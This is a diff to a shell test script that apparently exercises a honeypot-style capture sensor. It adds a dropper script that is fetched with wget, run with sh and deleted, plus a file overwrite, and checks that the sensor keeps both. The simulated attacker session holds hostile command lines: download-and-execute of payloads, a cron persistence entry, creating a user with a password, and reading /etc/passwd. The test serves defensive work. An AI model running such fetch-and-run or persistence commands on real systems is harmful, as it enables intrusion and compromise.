@@ -22,6 +22,11 @@ printf '#include <stdio.h>\n#include <unistd.h>\nint main(void) { printf("%s ran
 	"$marker" > "$WORK/payload.c"
 gcc -static -O2 -o "$WORK/www/payload" "$WORK/payload.c" || fail "cannot build the payload"
 payload_sha="$(sha256sum "$WORK/www/payload" | cut -d' ' -f1)"
+# A script run with sh and deleted, and a file written over: no exec keeps
+# them, the guest kernel keeps them as the unlink and the O_TRUNC come.
+printf '#!/bin/sh\necho dropper-%s-ran\n' "$marker" > "$WORK/www/dropper.sh"
+dropper_sha="$(sha256sum "$WORK/www/dropper.sh" | cut -d' ' -f1)"
+first_version_sha="$(printf 'first-%s\n' "$marker" | sha256sum | cut -d' ' -f1)"
 ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 \
 	>"$WORK/web.log" 2>&1 &
 for _ in $(seq 50); do ip netns exec "$NS_SENSOR" nc -z "$WEB_IP" 80 && break; sleep 0.1; done
@@ -32,6 +37,8 @@ log "interactive session"
 	echo 'uname -a; id; cat /etc/passwd | head -3'
 	echo "echo typed-$marker"
 	echo "wget -q -O /tmp/payload http://$WEB_IP/payload && chmod +x /tmp/payload && /tmp/payload; rm -f /tmp/payload"
+	echo "wget -q -O /tmp/dropper.sh http://$WEB_IP/dropper.sh && sh /tmp/dropper.sh; rm -f /tmp/dropper.sh"
+	echo "echo first-$marker > /tmp/over; echo second > /tmp/over"
 	echo '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x") | crontab -'
 	echo 'useradd -m alice && printf "Secr3tPw\nSecr3tPw\n" | passwd alice'
 	echo 'su alice -s /bin/sh -c "echo su-became-\$(id -un)"'
@@ -46,6 +53,7 @@ log "interactive session"
 	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
 	"root@$gip" > "$WORK/session.out" 2>&1 || true
 grep -q "$marker ran as 0" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "payload did not run"; }
+grep -q "dropper-$marker-ran" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "the dropper did not run"; }
 grep -q "su-became-alice" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "su did not run"; }
 
 log "tamper checks inside the guest"
@@ -126,7 +134,7 @@ log "checking events"
 jq_any 'select(.type == "capture_gap" or .type == "capture_error")' "$ev" >/dev/null &&
 	fail "capture has gaps or errors: $(jq -c 'select(.type == "capture_gap" or .type == "capture_error")' "$ev")"
 # Sequence numbers: 0..N-1 with none missing.
-seqs="$(jq -r 'select(.seq != null and .type != "capture_start" and .type != "exec_content") | .seq' "$ev" | sort -n)"
+seqs="$(jq -r 'select(.seq != null and .type != "capture_start" and .type != "exec_content" and .type != "kept_content") | .seq' "$ev" | sort -n)"
 [ "$(echo "$seqs" | first_line)" = 0 ] || fail "first seq is not 0"
 
 
@@ -136,6 +144,21 @@ jq_any "$payload_exec"' | select(.uid == 0 and .argv == ["/tmp/payload"] and .tt
 jq_any --arg s "$payload_sha" 'select(.type == "exec_content" and .sha256 == $s and .complete)' "$ev" >/dev/null ||
 	fail "payload content not captured (sha256 $payload_sha)"
 cmp -s "$cap/files/$payload_sha" "$WORK/www/payload" || fail "stored payload differs from the served file"
+# Written, run with sh, deleted: kept as the unlink came; a file written
+# over: its first version kept as the O_TRUNC came; the executed payload,
+# deleted too, not sent twice.
+jq_any --arg s "$dropper_sha" 'select(.type == "kept_content" and .sha256 == $s and .complete)' "$ev" >/dev/null ||
+	fail "the deleted dropper was not kept: $(jq -c 'select(.type == "kept" or .type == "kept_content")' "$ev" | head -20)"
+jq_any 'select(.type == "kept" and .path == "/tmp/dropper.sh" and .syscall == "unlinkat" and .comm == "rm"
+	and .content == "follows")' "$ev" >/dev/null || fail "no kept event for the dropper's unlink"
+cmp -s "$cap/files/$dropper_sha" "$WORK/www/dropper.sh" || fail "the kept dropper differs from the served file"
+jq_any --arg s "$first_version_sha" 'select(.type == "kept_content" and .sha256 == $s)' "$ev" >/dev/null ||
+	fail "the overwritten first version was not kept"
+jq_any 'select(.type == "kept" and .path == "/tmp/over" and (.syscall | startswith("open")))' "$ev" >/dev/null ||
+	fail "no kept event for the overwrite"
+jq_any --arg s "$payload_sha" 'select(.type == "kept" and .path == "/tmp/payload" and .content == "sent_before"
+	and .sha256 == $s)' "$ev" >/dev/null || fail "the deleted payload was sent again or not named by its hash"
+log "kept: $(jq -c 'select(.type == "kept") | [.path, .syscall, .content]' "$ev" | sort | uniq -c | sort -rn | head -8 | tr '\n' ' ')"
 for cmd in uname id cat rm chmod wget crontab useradd passwd su mount perl logger; do
 	jq_any --arg c "$cmd" 'select(.type == "exec" and (.path | endswith("/" + $c)) and .tty != null)' "$ev" >/dev/null ||
 		fail "no exec event for $cmd on a tty"
